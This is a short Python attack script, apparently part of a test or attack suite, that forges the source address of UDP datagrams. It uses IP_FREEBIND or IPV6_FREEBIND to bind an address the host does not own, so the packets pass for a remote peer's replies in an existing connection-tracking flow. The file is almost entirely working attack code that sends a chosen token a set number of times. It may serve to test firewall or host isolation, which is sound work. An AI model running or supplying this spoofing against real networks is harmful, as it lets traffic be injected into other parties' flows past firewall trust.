#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Technique: forge the source of a UDP datagram without any capability:
IP_FREEBIND / IPV6_FREEBIND lets a socket bind an address the host does not
own (a remote peer's), so the datagram looks like that peer's reply to an
existing conntrack flow.

  forge-source.py --src ADDR --sport PORT ADDR PORT [--token T] [--count N]
"""
import socket
import sys

import hgattack

IP_FREEBIND = getattr(socket, "IP_FREEBIND", 15)
IPV6_FREEBIND = 78


def main():
    p = hgattack.base_parser(__doc__)
    p.add_argument("--src", required=True)
    p.add_argument("--sport", type=int, required=True)
    a = p.parse_args()
    s = hgattack.udp_socket(a.addr)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if hgattack.family_of(a.addr) == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    else:
        s.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
    s.bind(hgattack.sockaddr(a.src, a.sport))
    dst = hgattack.sockaddr(a.addr, a.port)
    t = hgattack.Tally()
    t.run(lambda: s.sendto(a.token.encode(), dst), a.count, a.interval)
    return t.report()


if __name__ == "__main__":
    sys.exit(main())
